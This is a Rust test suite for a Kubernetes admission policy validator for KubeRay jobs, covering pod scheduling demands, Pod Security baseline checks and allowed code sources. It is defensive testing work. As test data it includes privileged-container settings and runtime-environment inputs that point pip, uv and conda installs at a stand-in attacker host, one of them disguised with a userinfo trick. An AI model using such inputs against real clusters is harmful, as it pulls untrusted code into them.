//! What a policy demands of pods and of runtime environments, in a review.

use raygate_core::policy::{Policy, read};
use serde_json::{Value, json};

use crate::limits::{fields_of, group, job_of, refuses, validate_under};
use crate::support::{job_with, with};

const HEAD: &str = "spec.rayClusterSpec.headGroupSpec.template.spec";

/// A job whose head has these fields in its template's `spec`, submitted over HTTP.
fn head(fields: &Value) -> Value {
    let template = json!({"spec": {"submissionMode": "HTTPMode", "rayClusterSpec": {
        "workerGroupSpecs": [], "headGroupSpec": {"template": {"spec": fields}}}}});
    job_with(&template)
}

#[test]
fn tolerations_count_by_what_they_bear() {
    let bears = |wanted: &Value, has: &Value| {
        let answer = validate_under(
            &json!({"require": {"tolerations": [wanted]}}),
            &head(&json!({"tolerations": has})),
        );
        fields_of(&answer, "RJ751").is_empty()
    };
    let wanted = json!({"key": "dedicated", "value": "ray", "effect": "NoSchedule"});
    for (has, expected) in [
        (json!([]), false),
        (json!([{"key": "dedicated", "operator": "Equal", "value": "ray", "effect": "NoSchedule"}]), true),
        (json!([{"key": "dedicated", "value": "ray"}]), true),
        (json!([{"key": "dedicated", "operator": "Exists"}]), true),
        (json!([{"operator": "Exists"}]), true),
        (json!([{"operator": "Exists", "effect": "NoExecute"}]), false),
        (json!([{"key": "dedicated", "value": "gpu", "effect": "NoSchedule"}]), false),
        (json!([{"key": "other", "operator": "Exists"}, {"key": "dedicated", "value": "ray"}]), true),
    ] {
        assert_eq!(bears(&wanted, &has), expected, "{has}");
    }
    assert!(bears(&json!({"key": "dedicated"}), &json!([{"key": "dedicated", "value": "any"}])));
}

#[test]
fn selectors_and_tolerations_are_asked_of_every_pod_and_limits_where_ray_runs() {
    let job = job_of(&[group("a", &json!({"replicas": 1}), &json!({"cpu": 1}))]);
    let selector = json!({"require": {"nodeSelector": {"pool": "ray"}}});
    let worker = "spec.rayClusterSpec.workerGroupSpecs[0].template.spec";
    let answer = validate_under(&selector, &job);
    assert_eq!(
        fields_of(&answer, "RJ751"),
        [format!("{HEAD}.nodeSelector"), format!("{worker}.nodeSelector")]
    );
    // The submitter that KubeRay writes is a pod, too.
    let submitted = with(&job, &json!({"spec": {"submissionMode": "K8sJobMode"}}));
    assert!(
        fields_of(&validate_under(&selector, &submitted), "RJ751")
            .contains(&"spec.submitterPodTemplate".to_owned())
    );
    let limits = json!({"require": {"resourceLimits": ["cpu"]}});
    assert_eq!(
        fields_of(&validate_under(&limits, &submitted), "RJ751"),
        [format!("{HEAD}.containers[0].resources")]
    );
    let of_pod = head(&json!({"resources": {"limits": {"cpu": 2}}}));
    assert!(fields_of(&validate_under(&limits, &of_pod), "RJ751").is_empty());
}

#[test]
fn demands_on_pods_are_forgiven_while_the_pods_stay() {
    let spec = json!({"require": {"nodeSelector": {"pool": "ray"}}});
    let stored = head(&json!({"nodeSelector": {"pool": "old"}}));
    assert!(!refuses("RJ751", &spec, &stored, &stored));
    assert!(refuses("RJ751", &spec, &stored, &head(&json!({"nodeSelector": {"pool": "new"}}))));
    let strict = with(&spec, &json!({"existing": "Deny"}));
    assert!(refuses("RJ751", &strict, &stored, &stored));
    let secure = json!({"limits": {"podSecurity": "baseline"}});
    let stored = head(&json!({"hostPID": true}));
    assert!(!refuses("RJ750", &secure, &stored, &stored));
    assert!(refuses("RJ750", &secure, &stored, &head(&json!({"hostPID": true, "hostIPC": true}))));
    assert!(refuses("RJ750", &secure, &head(&json!({})), &stored));
}

#[test]
fn a_violation_of_pod_security_stands_at_its_field_with_its_control() {
    let container = json!({"name": "ray-head", "image": "rayproject/ray:2.56.0", "securityContext": {
        "privileged": true, "capabilities": {"add": ["CHOWN", "SYS_ADMIN"]}}});
    let job = head(&json!({"hostNetwork": true, "containers": [container]}));
    let answer = validate_under(&json!({"limits": {"podSecurity": "baseline"}}), &job);
    let expected = [
        format!("{HEAD}.hostNetwork"),
        format!("{HEAD}.containers[0].securityContext.privileged"),
        format!("{HEAD}.containers[0].securityContext.capabilities.add[1]"),
    ];
    assert_eq!(fields_of(&answer, "RJ750"), expected);
    for title in ["Host Namespaces", "Privileged Containers", "Capabilities"] {
        assert!(answer.message().contains(&format!("(Pod Security Standard baseline: {title})")), "{title}");
    }
}

/// The runtime environment of a job that is sent to Ray as it is.
fn environment(yaml: &str) -> Value {
    with(&head(&json!({})), &json!({"spec": {"runtimeEnvYAML": yaml}}))
}

#[test]
fn code_comes_from_allowed_addresses_only() {
    let limits = json!({"limits": {"runtimeEnvSources": {
        "allow": ["https://pypi.example.com/*", "s3://ml-code/*", "git+https://github.com/ours/*"],
        "deny": ["https://pypi.example.com/old/*"]}}});
    for (yaml, denied) in [
        ("pip: [requests, torch==2.9]", false),
        ("pip: ['--index-url https://pypi.example.com/simple', ours]", false),
        ("pip: ['--index-url https://me:hunter2@pypi.example.com/simple?a=hunter2']", false),
        ("pip: ['--index-url https://${NAME}:${TOKEN}@pypi.example.com/simple']", false),
        ("pip: ['--index-url https://pypi.example.com@evil.example/simple']", true),
        ("pip: ['--index-url https://pypi.example.com/old/simple']", true),
        ("pip: ['-ihttps://evil.example/simple']", true),
        ("pip: ['torch @ https://evil.example/torch.whl']", true),
        ("pip: ['git+https://github.com/ours/tool@v1', 'git+https://github.com/theirs/tool']", true),
        ("pip: {packages: [a], pip_install_options: ['--extra-index-url', 'https://evil.example/']}", true),
        ("uv: {packages: [a], uv_pip_install_options: ['--index=https://evil.example/']}", true),
        ("conda: {dependencies: [python, {pip: ['--find-links=https://evil.example/']}]}", true),
        ("env_vars: {PIP_INDEX_URL: 'https://evil.example/simple'}", true),
        ("env_vars: {UV_INDEX: 'ours=https://pypi.example.com/a b=https://evil.example/b'}", true),
        ("env_vars: {API_URL: 'https://evil.example'}", false),
        ("working_dir: s3://ml-code/train.zip", false),
        ("working_dir: s3://other/train.zip", true),
        ("working_dir: file:///opt/train.zip", false),
        ("py_modules: ['https://pypi.example.com/a/../../x.whl']", true),
        ("working_dir: https://${HOST}/train.zip", false),
    ] {
        let answer = validate_under(&limits, &environment(yaml));
        let found = fields_of(&answer, "RJ752");
        assert_eq!(found, if denied { &["spec.runtimeEnvYAML"][..] } else { &[] }, "{yaml}");
        if !answer.allowed() {
            assert!(!answer.message().contains("hunter2"), "{yaml}");
        }
    }
    // In the submitter a shell reads the text first: what it may change is not judged.
    let submitted = with(
        &environment("working_dir: https://a$B.example/x.zip"),
        &json!({"spec": {"submissionMode": "K8sJobMode"}}),
    );
    assert!(fields_of(&validate_under(&limits, &submitted), "RJ752").is_empty());
}

#[test]
fn demands_that_nothing_can_meet_are_mistakes_of_the_policy() {
    let spec = json!({
        "require": {
            "nodeSelector": {"a b": "c"},
            "tolerations": [{"key": "a b"}, {"key": "a", "value": "b c", "effect": "NoRun"}],
            "resourceLimits": ["gpu", "cpu"],
        },
        "limits": {
            "totals": {"gpu": 4, "cpu": -1, "memory": "2 Ti", "amd.com/gpu": 1},
            "perPod": {"memory": "lots"},
            "workers": {"min": 3, "max": 2},
            "workersPerGroup": {},
            "idleTimeoutSeconds": {"max": -1},
            "runtimeEnvSources": {"allow": ["https://[a]/*"]},
        },
    });
    let mistakes = Policy::compile("p", &read(&spec).expect("a shape")).expect_err("mistakes");
    let mut fields: Vec<_> = mistakes.iter().map(|mistake| mistake.field.to_string()).collect();
    fields.sort();
    let expected = [
        "spec.limits.idleTimeoutSeconds.max",
        "spec.limits.perPod.memory",
        "spec.limits.runtimeEnvSources.allow[0]",
        "spec.limits.totals.cpu",
        "spec.limits.totals.gpu",
        "spec.limits.totals.memory",
        "spec.limits.workers.min",
        "spec.limits.workersPerGroup",
        "spec.require.nodeSelector[a b]",
        "spec.require.resourceLimits[0]",
        "spec.require.tolerations[0].key",
        "spec.require.tolerations[1].effect",
        "spec.require.tolerations[1].value",
    ];
    assert_eq!(fields, expected);
}
